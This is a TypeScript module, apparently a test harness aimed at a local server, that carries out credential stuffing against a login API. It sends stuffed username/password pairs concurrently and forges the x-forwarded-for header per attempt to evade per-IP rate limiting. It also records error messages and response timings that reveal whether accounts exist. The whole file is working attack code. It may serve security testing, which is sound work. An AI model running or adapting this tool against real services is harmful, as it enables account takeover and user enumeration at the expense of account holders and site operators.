import { Agent, request } from 'node:http';
import type { Target } from '../server/api.ts';

/** One stuffed login. */
export interface Attempt {
  readonly loginName: string;
  readonly password: string;
  readonly ip: string;
  readonly exists: boolean;
}

/** What an attempt was told. */
export interface Told {
  readonly exists: boolean;
  readonly status: number;
  readonly code: number;
  readonly message: string;
  readonly ms: number;
}

/** Sends a call as a visitor from an address, through a proxy that the server believes. */
export function callFrom(
  { host, port }: Target,
  agent: Agent,
  ip: string,
  name: string,
  input: object,
  token = '',
): Promise<{ status: number; body: string }> {
  const body = JSON.stringify(input);
  return new Promise((resolve, reject) => {
    const sent = request({
      host,
      port,
      agent,
      method: 'POST',
      path: `/api/${name}`,
      headers: {
        'content-type': 'application/json',
        'content-length': Buffer.byteLength(body),
        'x-forwarded-for': ip,
        ...(token === '' ? {} : { 'x-token': token }),
      },
    });
    sent.once('error', reject);
    sent.once('response', (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (piece: string) => (text += piece));
      response.once('end', () => resolve({ status: response.statusCode ?? 0, body: text }));
    });
    sent.end(body);
  });
}

/** Sends all attempts, so many at once. */
export async function attack(target: Target, attempts: readonly Attempt[], atOnce: number): Promise<Told[]> {
  const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
  const told: Told[] = [];
  const queue = [...attempts];
  const work = async () => {
    for (let one = queue.shift(); one !== undefined; one = queue.shift()) {
      const begun = performance.now();
      const input = { LoginName: one.loginName, Pwd: one.password };
      const { status, body } = await callFrom(target, agent, one.ip, 'UserAuth/GetManUserLogin', input);
      const { ErrorCode, RequestMsg } = JSON.parse(body) as { ErrorCode: number; RequestMsg: string };
      const ms = performance.now() - begun;
      told.push({ exists: one.exists, status, code: ErrorCode, message: RequestMsg, ms });
    }
  };
  await Promise.all(Array.from({ length: atOnce }, work));
  agent.destroy();
  return told;
}
